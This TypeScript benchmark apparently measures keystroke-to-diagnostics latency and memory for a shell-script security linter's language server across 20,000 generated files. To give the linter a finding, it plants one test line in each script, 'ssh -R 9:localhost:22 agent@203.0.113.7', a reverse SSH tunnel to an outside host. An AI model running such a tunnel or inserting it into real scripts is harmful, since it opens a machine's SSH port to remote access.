/** What a person who types waits for in a large workspace, and what the server keeps in memory: the built server, spoken to as an editor does. */
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { pathToFileURL } from "node:url";
import type { Diagnostic } from "vscode-languageserver";
import { longScript, makeLargeWorkspace } from "../scripts/large-workspace.mjs";
import { root } from "../scripts/root.mjs";
import { type ServerClient, startServer } from "../scripts/server-client.ts";
import { type Bench, type Figure, late, spread } from "./bench.ts";

const files = 20_000;
const shortScript = 300;
const middleScript = 1_000;
const script = 5_000;
/** Who types fast types so often, in milliseconds. */
const betweenKeys = 100;

export const bench: Bench = {
  title: "the language server in a workspace of 20,000 files: a keystroke to its diagnostics, and memory",
  async run() {
    if (!existsSync(join(root, "dist", "server.js"))) return { notRun: "dist/ is not built" };
    if (!existsSync("/proc/self/stat")) return { notRun: "memory and processor time are read from /proc, which this system does not have" };
    const temporary = mkdtempSync(join(tmpdir(), "countersign-typing-"));
    const folder = makeLargeWorkspace(join(temporary, "workspace"), files);
    const server = await startServer(folder, true);
    try {
      return await measured(server, folder);
    } finally {
      await server.stop();
      rmSync(temporary, { recursive: true, force: true });
    }
  },
};

async function measured(server: ServerClient, folder: string): Promise<Figure[]> {
  const typed = await opened(server, join(folder, "typed.sh"), shortScript);
  const middle = await opened(server, join(folder, "middle.sh"), middleScript);
  const long = await opened(server, join(folder, "long.sh"), script);
  for (let key = 0; key < 40; key++) await typed.key();
  for (let key = 0; key < 40; key++) await middle.key();
  for (let key = 0; key < 20; key++) await long.key();

  const beforeShort = processorTime(server);
  const quietShort = await keys(typed, 100);
  const beforeMiddle = processorTime(server);
  const quietMiddle = await keys(middle, 100);
  const beforeLong = processorTime(server);
  const quietLong = await keys(long, 60);
  const afterLong = processorTime(server);
  const atStart = megabytes(server);
  const audit = begunAudit(server, folder);
  const auditShort = await keys(typed, 200, betweenKeys, audit);
  const auditMiddle = await keys(middle, 100, betweenKeys, audit);
  const halfway = megabytes(server);
  const auditLong = await keys(long, 60, betweenKeys, audit);
  const seconds = await audit.seconds;
  const afterAudit = megabytes(server);
  await keys(typed, 1_000, 0);
  const afterKeys = megabytes(server);
  await keys(typed, 1_000, 0);
  const afterMore = megabytes(server);

  const work = (what: string, milliseconds: number): Figure => ({
    name: `processor time of the server for a keystroke, ${what}`,
    unit: "ms",
    spread: spread([milliseconds]),
    budget: { atMost: 16 },
    detail: "all of its threads; what else the machine has to do is not in it",
  });
  const row = (what: string, times: readonly number[], limit: number, detail: string): Figure => ({
    name: `keystroke p95, 20,000-file workspace, ${what}`,
    unit: "ms",
    spread: spread([late(times)]),
    budget: { atMost: limit },
    detail: `${detail}: ${times.length} keystrokes, median ${Math.round(spread(times).median)} ms`,
  });
  return [
    work("300 lines", (beforeMiddle - beforeShort) / quietShort.length),
    work("1,000 lines", (beforeLong - beforeMiddle) / quietMiddle.length),
    work("5,000 lines", (afterLong - beforeLong) / quietLong.length),
    row("300 lines", quietShort, 50, "from the change to the diagnostics, as a client of the server sees it"),
    row("300 lines, while the audit runs", auditShort, 50, `an audit of ${seconds} s`),
    row("1,000 lines", quietMiddle, 50, "the same"),
    row("1,000 lines, while the audit runs", auditMiddle, 50, "the same audit"),
    row("5,000 lines", quietLong, 50, "the same"),
    row("5,000 lines, while the audit runs", auditLong, 50, "the same audit"),
    {
      name: "server memory after the audit of 20,000 files",
      unit: "MB",
      spread: spread([afterAudit]),
      detail: `resident, with its workers: ${atStart} MB before, ${halfway} while it ran, ${peak(server)} at the peak`,
    },
    {
      name: "server memory after 2,000 keystrokes / after 1,000",
      unit: "×",
      spread: spread([afterMore / afterKeys]),
      detail: `${afterKeys} MB, then ${afterMore} MB; what grew with each keystroke would show`,
    },
  ];
}

interface Typed {
  /** Types one key and gives the milliseconds until its diagnostics are there. */
  readonly key: () => Promise<number>;
}

/** A finding in the middle appears and goes as the keys are typed. */
async function opened(server: ServerClient, file: string, lines: number): Promise<Typed> {
  const line = Math.floor(lines / 2);
  const text = longScript(lines).split("\n").toSpliced(line, 0, "ssh -R 9:localhost:22 agent@203.0.113.7").join("\n");
  let version = 1;
  if ((await server.diagnosticsOf(file, text)).length !== 1) throw new Error("The typed script does not have its finding.");
  return {
    key: async () => {
      version += 1;
      const isTyped = version % 2 === 0;
      const [start, end] = [
        { line, character: 0 },
        { line, character: isTyped ? 0 : 1 },
      ];
      const began = performance.now();
      const found = await server.change(file, version, [{ range: { start, end }, text: isTyped ? "x" : "" }]);
      const took = performance.now() - began;
      // A text that was given up has no findings at all, and says so.
      if (!found.some(isGivenUp) && found.length !== (isTyped ? 0 : 1)) throw new Error("The diagnostics do not follow the text.");
      return took;
    },
  };
}

/** On a machine with too much to do the time for a document may be over before it is read. */
function isGivenUp({ code }: Diagnostic): boolean {
  return code === "deadline" || code === "analysis-crashed";
}

/** Types so many keys, or fewer where an audit is given that ends before. */
async function keys(typed: Typed, count: number, pause = betweenKeys, audit?: RunningAudit): Promise<number[]> {
  const times: number[] = [];
  while (times.length < count && audit?.isOver() !== true) {
    const took = await typed.key();
    times.push(took);
    await sleep(Math.max(0, pause - took));
  }
  return times;
}

interface RunningAudit {
  readonly isOver: () => boolean;
  readonly seconds: Promise<number>;
}

function begunAudit(server: ServerClient, folder: string): RunningAudit {
  const began = performance.now();
  let isOver = false;
  const seconds = server.ask("countersign/auditFolder", { folder: pathToFileURL(folder).href }).then((answer) => {
    isOver = true;
    if (answer.stats.files < files / 2) throw new Error(`The audit read ${answer.stats.files} files.`);
    return Math.round((performance.now() - began) / 1000);
  });
  return { isOver: () => isOver, seconds };
}

/** Milliseconds that the server has computed so far. */
function processorTime({ process: { pid } }: ServerClient): number {
  const stat = readFileSync(`/proc/${pid}/stat`, "utf8");
  // After the name, which may have spaces in it: the 14th and 15th fields, in hundredths of a second.
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  return (Number(fields[11]) + Number(fields[12])) * 10;
}

/** What the process holds now, with all of its threads. */
function megabytes(server: ServerClient): number {
  return memory(server, "VmRSS");
}

function peak(server: ServerClient): number {
  return memory(server, "VmHWM");
}

function memory({ process: { pid } }: ServerClient, row: "VmRSS" | "VmHWM"): number {
  const status = readFileSync(`/proc/${pid}/status`, "utf8");
  const [, kilobytes] = new RegExp(`^${row}:\\s+(\\d+) kB$`, "m").exec(status) ?? [];
  return Math.round(Number(kilobytes) / 1024);
}
